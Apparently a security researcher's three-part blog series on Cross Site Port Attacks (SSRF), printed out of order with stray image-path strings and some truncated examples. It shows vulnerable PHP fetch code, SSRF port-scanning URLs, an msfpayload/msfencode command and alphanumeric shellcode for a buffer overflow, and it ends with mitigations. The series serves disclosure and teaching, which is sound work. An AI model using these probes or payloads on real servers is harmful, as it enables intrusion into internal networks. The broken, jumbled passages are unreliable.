4. Blacklist IP addresses – Internal IP addresses, localhost specifications and internalhostnames can all be blacklisted to prevent the web application from being abused to fetch data/attack these devices. Implementing this will protect servers from one time attack vectors. For example, even if the first fix (above) is implemented, the data is still being sent to the remote service. If an attack that does not need to see responses is executed (like a buffer overflow exploit) then this fix can actually prevent data from ever reaching the vulnerable device. Response handling is then not required at all as a request was never made.

5. Disable unwanted protocols – Allow only http and https to make requests to remote servers. Whitelisting these protocols will prevent the web application from making requests over other protocols like file:///, gopher://, ftp:// and other URI schemes.


Using web applications to make requests to remote resources, the local network and even localhost is a technique that has been known to pentesters for some time now. It has been termed as Server Side Request Forgeries, Cross Site Port Attacks and even ServerSide Site Scanning, but the primary idea is to present it to the community and show that this vulnerability is extremely common. XSPA, in the case of this research, can be used to proxy attacks via vulnerable web applications to remote servers and local systems.

We have seen that XSPA can be used to port scan remote Internet facing servers, intranet devices and the local web server itself. Banner grabbing is also possible insome cases. XSPA can also be used to exploit vulnerable programs running on the Intranet or on the local web server. Fingerprinting intranet web applications using static default files & application behaviour is possible. It is also possible in several cases to attack internal/external web applications that are vulnerable to GET parameter based vulnerabilities (SQLi via URL, parameter manipulation etc.). Lastly, XSPA has been used to document local file read capabilities using the file:/// protocol handler in Adobe’s Omniture web application.

Mitigating XSPA takes a combination of blacklisting IP addresses, whitelisting connect ports and protocols and proper non descriptive error handling.

In the next several posts I will publish disclosures regarding XSPA in several websites on the Internet which triggered the research into this vulnerability in the first place.

Cross Site Port Attacks – XSPA – Part 2

This is the second post in the 3 part series that explains XSPA, the attacks and possible countermeasures.

Read Cross Site Port Attacks – XSPA – Part 1
Read Cross Site Port Attacks – XSPA – Part 3XSPA allows attackers to target the server infrastructure, mostly the intranet of the web server, the web server itself and any public Internet facing server as well. Currently, I have come across the following five different attacks that can be launched because of XSPA:
1. Port Scanning remote Internet facing servers, intranet devices and the local web server itself. Banner grabbing is also possible in some cases.
2. Exploiting vulnerable programs running on the Intranet or on the local web server
3. Fingerprinting intranet web applications using standard application default files & behavior
4. Attacking internal/external web applications that are vulnerable to GET parameter based vulnerabilities (SQLi via URL, parameter manipulation etc.)
5. Reading local web server files using the file:/// protocol handler.

Most web server architecture would allow the web server to access the Internet and services running on the intranet. The following visual depiction shows the various destinations to which requests can be made:

Let us now look at some of the attacks that are possible with XSPA. These are attacks that I have come across during my Bug Bounty research and XSPA is not limited to them. A determined, intuitive attacker can come up with other scenarios as well.

Attacks – Port Scanning using XSPA

Consider a web application that provides a common functionality that allows a user to input a link to an external image from a third party server. Most social networking sites have this functionality that allows users to update their profile image by either uploading an image or by providing a URL to an image hosted elsewhere on the Internet.A user is expected (in an utopian world) to enter a valid URL pointing to an image on the Internet. URLs of the following forms would be considered valid:

  • http://example.com/dir/public/image.jpg
  • http://example.com/dir/images/
  • The second URL is valid, if the served Content-Type is an image (http://www.w3.org/Protocols/rfc1341/4_Content-Type.html). Based on the web application’s server side logic, the image is downloaded on the server, a URL is created and then the image is displayed to the user, using the new server URL. So even if you specify the image to be at
    the final image url would be at

    If an image is not found at the user supplied URL, the web application will normally inform the user of such. However, if the remote server hosting the image itself isn’t found or the server exists and there is no HTTP service running then it gets tricky. Most web applications generate error messages that inform the user regarding the status of this request. An attacker can specify a non-standard yet valid URI according to the URI rfc3986 with a port specification. An example of these URIs would be the following:

  • http://example.com:8080/dir/images/
  • http://example.com:22/dir/public/image.jpg
  •http://example.com:3306/dir/images/
  • In all probability you would find a web application on port 8080 and not on 22 (SSH) or 3306 (MySQL). However, the backend logic of the webserver, in all observed cases, will connect to the user specified URL on the mentioned port using whatever APIs and framework it is built over as these are valid HTTP URLs. In case of most TCP services, banners are sent when a socket connection is created and since most banners (containing juicy information) are printable ascii, they can be displayed as raw HTML via the response handler. If there is some parsing of data on the server then non HTML data may not be displayed, in such cases, unique error messages, response byte size and response timing can be used to identify port status providing an avenue for port scanning remote servers using the vulnerable web application. An attacker can analyze the returned error messages and identify open and closed ports based on unique error responses. These responses may be raw socket errors (like “Connection refused” or timeouts) or may be customized by the application (like “Unexpected header found” or “Service was not reachable”). Instead of providing a URL to a remote server, URLs to localhost ( can also be used to port scanthe local server itself!

    The following implementation of cURL can be abused to port scan devices:

    if (isset($_POST['url']))
    $link = $_POST['url'];
    $filename = './curled/'.rand().'txt';
    $curlobj = curl_init($link);
    $fp = fopen($filename,"w");
    curl_setopt($curlobj, CURLOPT_FILE, $fp);
    curl_setopt($curlobj, CURLOPT_HEADER, 0);
    $fp = fopen($filename,"r");
    $result = fread($fp, filesize($filename));
    echo $result;

    The following is a screengrab of the above code retrieving robots.txt from http://www.twitter.com:

    Request: http://www.twitter.com/robots.txt

    For the same page, if a request is made to fetch data from a open port running a non HTTP service:

    Request: http://scanme.nmap.org:22/test.txtFor a closed port, an application specific error is displayed:

    Request: http://scanme.nmap.org:25/test.txt

    The different responses received allow us to port scan devices using the vulnerable web application server as a proxy. This can easily be scripted to achieve automation and cleaner results. I will be (in later posts) showing how this attack was possible on Facebook, Google, Mozilla, Pinterest, Adobe and Yahoo!

    An attacker can also modify the request URLs to scan the internal network or the local server itself. For example:


    In most web applications on the Internet, barring a few, banner grabbing may not be possible, in which case application specific error messages, response byte size, server response times and changes in HTML source can be used as unique fingerprints to identify port status. The following screengrabs show port scanning via XSPA in Google’s Webmasters web application. Note the application specific error messages that can be used to script the vulnerability and automate scanning of Internet/Intranet devices. Google has now fixed this issue (and my name was listed in the prestigious Google Hall of Fame for security researchers):

    Attacks – Exploiting vulnerable network programs

    Most developers in the real world write code without incorporating a lot of security. Which is why, even after a decade of being documented, threats like buffer overflows and format string vulnerabilities are still found in applications. For applications built in-house to performspecific tasks, security is almost never in the list of priorities, hence attacking them gives easy access to the internal network. XSPA allows attackers to send data to user controlled addresses and ports which could have vulnerable services listening on them. These can be exploited using XSPA to execute code on the remote/local server and gain a reverse shell (or perform an attacker desired activity).

    If we look at the flow of an XSPA attack, we can see that we control the part after the port specification. In simpler terms, we control the resource that we are asking the web server to fetch from the remote/local server. The web server creates a GET (or POST, mostly GET) request on the backend and connects to the attacker specified service and issues the following HTTP request:

    GET /attacker_controlled_resource HTTP/1.1
    Host: hostname

    If you notice carefully, we do not need to be concerned about most of the structure of the backendrequest as we control the most important part of it, the resource specification. For example, in the following screengrab you can see that a program listening on port 8987 on the local server accepts input and prints “Hello GET /test.txt HTTP/1.1, The Server Time is: [server time]”. We can see that the “GET /test.txt HTTP/1.1” is sent by the web server to the program as part of its request creation process. If the program is vulnerable to a buffer overflow, as user input is being used to create the output, the attacker could pass an overly long string and crash the program.



    On testing the vulnerable copy on a local installation, we can see that EIP can be controlled and ESP has our data. Calculating the correct offset for EIP and building the exploit is beyond this blog post, however, the folks at Corelan have a brilliant series of tutorials on building exploits for vulnerable programs. One important point to be noted however is that HTTP being a text based protocol may not handle non-printable unicode characters (found in exploit code) properly. In such a situation, we can use msfencode (part of metasploit framework) toencode the exploit payload to alpha numeric using the following command:

    msfpayload windows/exec CMD=calc.exe R | msfencode BufferRegister=ESP -e x86/alpha_mixed

    The result? The following alphanumeric text (along with padding AAAAAAs, the static JMP ESP address and the shellcode) that can now be sent via the web application to the vulnerable program:

    [emailprotected]'ßwTYIIIIIIIIIIIIIIII7QZjAXP0A0AkAAQ2AB2BB0BBABXP8ABuJIIlhhmYUPWpWp3Pk9he01xRSTnkpRfPlKPRtLLKPR24NkbR7XDOMgszuvVQ9oeaKpllgL3QQl5RFLWPiQJodM31JgKRHpaBPWNk3bvpLKsrWLwqZpLK1P0xMU9PSDCz7qZpf0NkQX6xnk2xUps1n3xcgL3yNkednkVayF4qKO5aKpnLIQJo4M31O76XIpbUzTdC3MHxGKamvDbU8bchLKShEtgqhSQvLKtLRkNkShuLgqZslK5TlKVaZpoy3tGTWTqKqKsQ0YSjRqyoKP2xCoSjnkwb8kLFqM0jFaNmLElyc05PC0pPsX6QlK0oOwkOyEOKhph5920VBHY6MEoMOmKON5Uls6SLUZMPykip2UfeoK3wfs422OBJs0Sc9oZuCSPaPl3SC0AA

    Sucessful exploitation leads to calculator executing on the server. The shellcode can be replaced with other payloads as well (reverse shell perhaps?)

    Attacks – Fingerprinting Intranet Web Applications

    Identifying internal applications via XSPA would be one of the first steps an attacker would take to get into the network from outside. Fingerprinting the type and version, if its a publicly available framework, blogging platform, application module or simply a customized public CMS, is essential in identifying vulnerabilities that can then be exploited to gain access.

    Most publicly available web application frameworks have distinct files and directories whose presence would indicate the type and version of the application. Most web applications also give away version and other information through meta tags and comments inside the HTML source. Specific vulnerabilites can then be researched based on the results. For example, the following unique signatures help in identifying a phpMyAdmin, WordPress and a Drupal instance respectively:The following request attempts to identify the presence of a DLink Router:


    Once the web application has been identified, an attacker can then research vulnerabilities and exploit vulnerable applications. In the next post we shall see how intranet web applications can be attacked and how servers can be abused using other protocols as well. We will also take a look at fixes that are suggested for developers to thwart XSPA or limit the damage that can arise due to this vulnerability.

    Cross Site Port Attacks – XSPA – Part 1

    This is the first of a 3 part series of blog posts that explain Cross Site Port Attacks(XSPA) in greater detail. I disclosed this as a speaker at the recently concluded OWASP AppSecUSA2012, Austin and thought it wasabout time I blogged as well.

    Read Cross Site Port Attacks – XSPA – Part 2
    Read Cross Site Port Attacks – XSPA – Part 3

    Update: Please note that this is independent research conducted as part of my involvement with Bug Bounty programs with several companies and although related to Alexander Polyakov’s research on SSRF, the similarity in findings are merely a coincidence and are focused on showing how common XSPA/SSRF are in popular web applications.Many web applications provide functionality to pull data from other webservers for various reasons. Using user specified URLs, web applications can be made to fetch images, download XML feeds from remote servers, text based files etc. This functionality can be abused by making crafted queries using the vulnerable web application as a proxy to attack other services running on remote/local servers. Attacks arising via this abuse of functionality are named as Cross Site Port Attacks (XSPA).

    What is XSPA?

    An application is vulnerable to Cross Site Port Attacks if the application processes user supplied URLs and does not verify/sanitize the backend response received from remote servers before sending it back to the client. An attacker can send crafted queries to a vulnerable web application to proxy attacks to external Internet facing servers, intranet devices and the web server itself using the advertised functionality of the vulnerable web application. The responses, in certain cases, can be studied to identify service availability (port status, banners etc.) and even fetch data from remote services in unconventional ways.

    The following screengrab shows gravatar.com providing thisfunctionality:

    XSPA allows attackers to abuse available functionality in most web applications to port scan intranet and external Internet facing servers, fingerprint internal (non-Internet exposed) network aware services, perform banner grabbing, identify web application frameworks, exploit vulnerable programs, run code on reachable machines, exploit web application vulnerabilities listening on internal networks, read local files using the file protocol and much more. XSPA has been discovered with Facebook, where it was possible to port scan any Internet facing server using Facebook’s IP addresses. Consecutively, XSPA was also discovered in several other prominent web applications on the Internet, including Google, Apigee, StatMyWeb, Mozilla.org, Face.com, Pinterest, Yahoo, Adobe Omniture and several others. We will take a look at the vulnerabilities that were present in the above mentioned web applications that could be used to launch attacks and perform port scans on remote servers and intranet devices using predefined functionality.

    Examples of Implementation

    Let us look at some examples of PHP implementations of file fetching via user supplied URLs. XSPA affects web applications written in any language as long as they let users decide where the data would be fetched from. Please note the examples shown below are neither clean nor secure, however most of the parts of the code outlined below have been obtained from real world application sources.
    1.    PHP file_get_contents:

    if (isset($_POST['url']))
